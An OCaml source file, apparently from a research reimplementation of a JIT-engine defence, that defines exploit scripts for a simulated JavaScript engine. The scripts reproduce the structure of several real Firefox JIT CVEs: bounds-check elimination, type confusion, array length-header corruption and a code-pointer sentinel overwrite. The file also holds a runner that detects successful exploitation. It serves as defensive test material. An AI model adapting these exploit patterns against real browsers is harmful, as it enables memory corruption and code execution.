module Vuln_config = Jitbull_passes.Vuln_config
module Engine = Jitbull_jit.Engine
module Errors = Jitbull_runtime.Errors

type observable =
  | Shellcode
  | Crash
  | Pwned_marker

type t = {
  cve : Vuln_config.cve;
  name : string;
  dangerous_pass : string;
  source : string;
  expected : observable;
}

(* Shared exploitation tail: given a global [w] whose length header was
   corrupted to a huge value, overwrite the JIT code pointer sentinel at
   the top of the heap, then transfer control through JITed code. *)
let payload_tail ~retrigger =
  Printf.sprintf
    {|
if (w.length > 100000) {
  var off = __heapSize() - 2 - (__arrayBase(w) + 2);
  w[off] = 1337;
  print("PWNED sentinel overwritten");
}
%s;
|}
    retrigger

(* CVE-2019-17026: GVN eliminates the second bounds check because its
   dependency analysis believes [a.length = 1] clobbers nothing; the
   unchecked store then lands in the victim array allocated in the
   reclaimed storage tail, corrupting its length header. Mirrors the
   public PoC's adjacent-arrays + shrink anatomy. *)
let cve_2019_17026 =
  {
    cve = Vuln_config.CVE_2019_17026;
    name = "CVE-2019-17026";
    dangerous_pass = "gvn";
    expected = Shellcode;
    source =
      {|
function pwn(v) {
  var a = [0,0,0,0,0,0,0,0];
  a[1] = v;
  a.length = 1;
  var victim = [1,1,1,1];
  a[1] = 1073741824;
  return victim;
}
var w = [0];
for (var i = 0; i < 100; i++) { w = pwn(5); }
|}
      ^ payload_tail ~retrigger:"pwn(5)";
  }

(* An independent implementation of the same flaw (the paper's second
   public implementation): different structure, helper-driven, different
   sizes and constants — but the same GVN dependency bug. *)
let second_implementation_17026 =
  {|
function groom(size, fill) {
  var arr = [];
  for (var i = 0; i < size; i++) { arr.push(fill); }
  return arr;
}
function trigger(buf, big) {
  buf[2] = 7;
  buf.length = 2;
  var spray = [9,9,9,9,9,9];
  buf[2] = big;
  return spray;
}
var w = [0];
var seed = groom(12, 3);
for (var round = 0; round < 90; round++) {
  var b = groom(12, round);
  w = trigger(b, 1073741824);
}
|}
  ^ payload_tail ~retrigger:"trigger(groom(12, 1), 1073741824)"

(* CVE-2019-9810: same root bug as 17026 (paper §III-B) through a
   different code shape — arithmetic-derived shrink and a differently
   shaped victim. *)
let cve_2019_9810 =
  {
    cve = Vuln_config.CVE_2019_9810;
    name = "CVE-2019-9810";
    dangerous_pass = "gvn";
    expected = Shellcode;
    source =
      {|
function pwn(v, big) {
  var buf = [v,v,v,v,v,v,v,v,v,v];
  buf[2] = v + 1;
  buf.length = buf.length - 8;
  var target = [2,2,2,2,2,2];
  buf[2] = big;
  return target;
}
var w = [0];
for (var i = 0; i < 90; i++) { w = pwn(i, 1073741824); }
|}
      ^ payload_tail ~retrigger:"pwn(1, 1073741824)";
  }

(* CVE-2019-9791: the vulnerable type analysis trusts only a loop phi's
   forward operand, removing the unbox guard; JITed arithmetic then
   reinterprets an array as its elements base address — an address
   disclosure. The script prints the PWNED marker when the leak
   succeeded. *)
let cve_2019_9791 =
  {
    cve = Vuln_config.CVE_2019_9791;
    name = "CVE-2019-9791";
    dangerous_pass = "applytypes";
    expected = Pwned_marker;
    source =
      {|
function confuse(n, late, obj) {
  var x = 1;
  var acc = 0;
  for (var i = 0; i < n; i++) {
    acc = acc + x * 3;
    if (late == 1) { if (i == n - 2) { x = obj; } }
  }
  return acc;
}
var secret = [7,7,7];
var r = 0;
for (var k = 0; k < 60; k++) { r = confuse(10, 0, 5); }
r = confuse(10, 1, secret);
if (r == r) { if (r != 30) { print("PWNED address leak: " + r); } }
|};
  }

(* CVE-2019-11707: vulnerable bounds-check elimination accepts the stale
   pre-loop length as proof, ignoring the in-loop shrink. *)
let cve_2019_11707 =
  {
    cve = Vuln_config.CVE_2019_11707;
    name = "CVE-2019-11707";
    dangerous_pass = "boundscheckelim";
    expected = Shellcode;
    source =
      {|
function pwn(a, big, late) {
  var n = a.length;
  var t = 0;
  for (var i = 0; i < n; i++) {
    if (late == 1) { if (i == 0) { a.length = 1; w = [3,3,3,3]; } }
    a[i] = big;
    t = t + 1;
  }
  return t;
}
var w = [0];
for (var k = 0; k < 60; k++) {
  var warm = [9,9,9,9,9,9,9,9,9,9];
  pwn(warm, 7, 0);
}
var prey = [9,9,9,9,9,9,9,9,9,9];
pwn(prey, 1073741824, 1);
|}
      ^ payload_tail ~retrigger:"pwn([1,1,1], 7, 0)";
  }

(* CVE-2019-9792: vulnerable LICM hoists the length/elements loads out of
   a loop whose body shrinks the array; every later iteration checks
   against the stale length and stores into reclaimed memory. *)
let cve_2019_9792 =
  {
    cve = Vuln_config.CVE_2019_9792;
    name = "CVE-2019-9792";
    dangerous_pass = "licm";
    expected = Shellcode;
    source =
      {|
function pwn(a, big, late) {
  var t = 0;
  for (var i = 0; i < 8; i++) {
    if (late == 1) { if (i == 0) { a.length = 1; w = [4,4,4,4]; } }
    a[i] = big;
    t = t + 1;
  }
  return t;
}
var w = [0];
for (var k = 0; k < 60; k++) {
  var warm = [9,9,9,9,9,9,9,9];
  pwn(warm, 7, 0);
}
var prey = [9,9,9,9,9,9,9,9];
pwn(prey, 1073741824, 1);
|}
      ^ payload_tail ~retrigger:"pwn([1,1,1], 7, 0)";
  }

(* CVE-2019-9795: vulnerable constant folding removes a bounds check on a
   constant index by trusting the allocation-site length, ignoring the
   intervening shrink. *)
let cve_2019_9795 =
  {
    cve = Vuln_config.CVE_2019_9795;
    name = "CVE-2019-9795";
    dangerous_pass = "foldconstants";
    expected = Shellcode;
    source =
      {|
function pwn(big, late) {
  var b = [6,6,6,6,6,6,6,6];
  if (late == 1) { b.length = 1; w = [5,5,5,5]; }
  b[1] = big;
  return 0;
}
var w = [0];
for (var k = 0; k < 60; k++) { pwn(7, 0); }
pwn(1073741824, 1);
|}
      ^ payload_tail ~retrigger:"pwn(7, 0)";
  }

(* CVE-2019-9813: vulnerable DCE deletes the store-path bounds check
   (whose pass-through value has no uses); a wildly out-of-range index
   then writes outside the physical heap — the crash-type exploit. *)
let cve_2019_9813 =
  {
    cve = Vuln_config.CVE_2019_9813;
    name = "CVE-2019-9813";
    dangerous_pass = "dce";
    expected = Crash;
    source =
      {|
function pwn(a, big, late) {
  var idx = 1;
  if (late == 1) { idx = 4000000; }
  a[idx] = big;
  return 0;
}
var base = [9,9,9,9];
for (var k = 0; k < 60; k++) { pwn(base, 7, 0); }
pwn(base, 1073741824, 1);
print("no crash");
|};
  }

(* CVE-2020-26952: vulnerable store-to-load forwarding across a call that
   shrinks the array leaks the stale element (and deletes the orphaned
   check), where the patched engine reloads and observes the shrink. *)
let cve_2020_26952 =
  {
    cve = Vuln_config.CVE_2020_26952;
    name = "CVE-2020-26952";
    dangerous_pass = "sink";
    expected = Pwned_marker;
    source =
      {|
function wipe(x) {
  var noise = 0;
  for (var i = 0; i < 20; i++) {
    noise = (noise * 31 + i) % 977;
    noise = noise + (i & 3) - (noise >> 2);
    noise = (noise ^ 5) + (i | 1);
  }
  x.length = 0;
  return noise;
}
function pwn(v) {
  var c = [8,8,8,8];
  c[0] = v;
  wipe(c);
  return c[0];
}
var r = 0;
for (var k = 0; k < 60; k++) { r = pwn(k); }
r = pwn(424242);
if (r == 424242) { print("PWNED stale read: " + r); }
|};
  }

let all =
  [
    cve_2019_17026;
    cve_2019_9810;
    cve_2019_9791;
    cve_2019_11707;
    cve_2019_9792;
    cve_2019_9795;
    cve_2019_9813;
    cve_2020_26952;
  ]

let find cve = List.find (fun d -> d.cve = cve) all

type exploit_result =
  | Exploited of string
  | Neutralized

let run_exploit (config : Engine.config) source expected : exploit_result =
  match Engine.run_source config source with
  | output, _ -> (
    match expected with
    | Pwned_marker ->
      let pwned =
        String.split_on_char '\n' output
        |> List.exists (fun line -> String.length line >= 5 && String.sub line 0 5 = "PWNED")
      in
      if pwned then Exploited "PWNED marker printed" else Neutralized
    | Shellcode | Crash ->
      (* the sentinel-overwrite tail also prints a marker before the
         control transfer; treat it as exploitation evidence in case the
         retrigger path was blacklisted *)
      let pwned =
        String.split_on_char '\n' output
        |> List.exists (fun line -> String.length line >= 5 && String.sub line 0 5 = "PWNED")
      in
      if pwned then Exploited "sentinel overwritten (no control transfer)" else Neutralized)
  | exception Errors.Shellcode_executed msg -> Exploited ("shellcode: " ^ msg)
  | exception Errors.Crash msg -> Exploited ("crash: " ^ msg)

let harvest db cves =
  List.map
    (fun cve ->
      let d = find cve in
      (d, Jitbull_core.Db.harvest db ~cve:d.name ~vulns:(Vuln_config.make [ cve ]) d.source))
    cves
